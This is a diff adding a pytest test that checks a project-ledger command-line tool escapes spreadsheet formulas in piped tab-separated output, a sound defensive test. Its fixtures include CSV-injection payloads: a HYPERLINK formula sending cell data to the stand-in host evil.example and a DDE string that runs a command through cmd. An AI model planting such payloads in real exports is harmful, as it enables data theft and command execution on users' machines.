@@ -58,6 +58,32 @@ def test_stored_text_is_printed_as_it_is(hostile_db: Path, terminal: bool) -> No
         assert [p.name for p in ledger.query().projects()] == HOSTILE
 
 
+FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A3,"点击查看")', "@SUM(A1)", "+1+1",
+            "-2+3", "\t=1", "\r=1"]  # fmt: skip
+
+
+def test_piped_tables_never_carry_a_live_formula(run: Any, tmp_path: Path) -> None:
+    db = tmp_path / "formulas.db"
+    with tp.Ledger.open(db) as ledger:
+        ledger.add_units(["=cmd|'/c calc'!A0"])
+        for n, name in enumerate(FORMULAS, start=1):
+            ledger.add_project(tp.Project(code=f"X{n}", name=name, responsible_unit=
+                "=cmd|'/c calc'!A0", category=tp.Category.INFRASTRUCTURE))  # fmt: skip
+    header, *lines = run.ok("projects", db).stdout.splitlines()
+    rows = [line.split("\t") for line in lines]
+    names = header.split("\t")
+    name, unit = names.index("项目名称"), names.index("责任单位")
+    assert len(rows) == len(FORMULAS)
+    for row, stored in zip(rows, FORMULAS, strict=True):
+        # the stored text with an apostrophe before it, tabs and line breaks as spaces
+        assert row[name] == "'" + " ".join(stored.replace("\t", " ").splitlines())
+        assert row[unit] == "'=cmd|'/c calc'!A0"
+        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)
+    # in a terminal the text is shown as it is stored
+    shown = run.ok("projects", db, "--limit", "2", terminal=True).stdout
+    assert "@SUM(A1)" in shown and "'@SUM" not in shown
+
+
 def test_piped_tables_are_whole_tab_separated_lines(run: Any, sample_db: Path) -> None:
     text = run.ok("projects", sample_db, columns=40).stdout
     header, *rows = text.splitlines()
